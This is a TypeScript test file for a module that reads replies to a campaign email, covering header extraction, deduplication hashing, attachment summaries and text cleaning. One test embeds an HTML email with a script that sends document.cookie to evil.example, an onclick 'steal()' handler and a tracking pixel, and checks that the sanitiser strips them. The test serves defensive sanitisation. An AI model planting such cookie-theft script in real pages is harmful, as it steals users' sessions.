import { simpleParser } from 'mailparser';
import { cleanText, MAX_TEXT_CHARS, readReply } from './reply-reading.js';

const parse = (raw: string) =>
  simpleParser(raw.replace(/\r?\n/g, '\r\n'), { skipHtmlToText: true, skipTextToHtml: true, skipImageLinks: true, skipTextLinks: true });

describe('reading a reply', () => {
  it('keeps the sender, subject, date, text, Message-ID and the headers that classify it', async () => {
    const mail = await parse(`From: "Press Office" <Press.Office@MID-RU.example>
To: reply+abc@campaigns.example
Subject: =?UTF-8?B?0JDQstGC0L7QvtGC0LLQtdGCOiBIb21z?=
Date: Thu, 09 Feb 2012 10:12:00 +0000
Message-ID: <answer-1@mid-ru.example>
Auto-Submitted: auto-replied
X-Mailer: Outlook
Content-Type: text/plain; charset=utf-8

We are away.
`);
    const r = readReply(mail);
    expect(r).toMatchObject({
      fromAddress: 'press.office@mid-ru.example',
      fromName: 'Press Office',
      subject: 'Автоответ: Homs',
      sentAt: new Date('2012-02-09T10:12:00Z'),
      text: 'We are away.',
      messageId: '<answer-1@mid-ru.example>',
      dedupKey: 'mid:<answer-1@mid-ru.example>',
      attachments: [],
    });
    expect(r.headers).toEqual({ 'auto-submitted': 'auto-replied', 'x-mailer': 'Outlook' });
  });

  it('turns an HTML-only reply into text without its script, style, tracking image or link targets', async () => {
    const mail = await parse(`From: aide@mid-ru.example
Subject: Re: Homs
Message-ID: <html-1@mid-ru.example>
Content-Type: text/html; charset=utf-8

<html><head><style>p { color: red }</style><script>alert("head")</script></head>
<body><p>Dear supporter,</p><p>The Minister <b>agrees</b>. <a href="https://track.example/c?id=1">Read more</a></p>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<img src="https://track.example/pixel.gif?u=1" width="1" height="1" alt="pixel">
<p onclick="steal()">Regards</p></body></html>
`);
    const r = readReply(mail);
    expect(r.text).toBe('Dear supporter,\n\nThe Minister agrees. Read more\n\nRegards');
    expect(r.text).not.toMatch(/script|alert|evil|track\.example|pixel|color|steal|</);
  });

  it('describes attachments without keeping them, and hashes sender, date and text when there is no Message-ID', async () => {
    const raw = `From: aide@mid-ru.example
Subject: Re: Homs
Date: Thu, 09 Feb 2012 10:12:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

See the statement attached.
--b
Content-Type: application/pdf; name="statement.pdf"
Content-Disposition: attachment; filename="statement.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJcfsj6IK
--b--
`;
    const r = readReply(await parse(raw));
    expect(r.attachments).toEqual([{ filename: 'statement.pdf', contentType: 'application/pdf', size: 15 }]);
    expect(r.messageId).toBeNull();
    expect(r.dedupKey).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(readReply(await parse(raw)).dedupKey).toBe(r.dedupKey);
    expect(readReply(await parse(raw.replace('See the statement', 'See our statement'))).dedupKey).not.toBe(r.dedupKey);
  });

  it('cleans text: CRLF, control characters, trailing spaces, and cuts what is too long', () => {
    expect(cleanText('a \r\nb\u0000\u0007c\t\r\n\r\n\r\n\r\nd  ')).toBe('a\nbc\n\nd');
    const long = cleanText('x'.repeat(MAX_TEXT_CHARS + 10));
    expect(long.startsWith('x'.repeat(MAX_TEXT_CHARS))).toBe(true);
    expect(long.endsWith('[… cut: the reply was longer]')).toBe(true);
  });
});
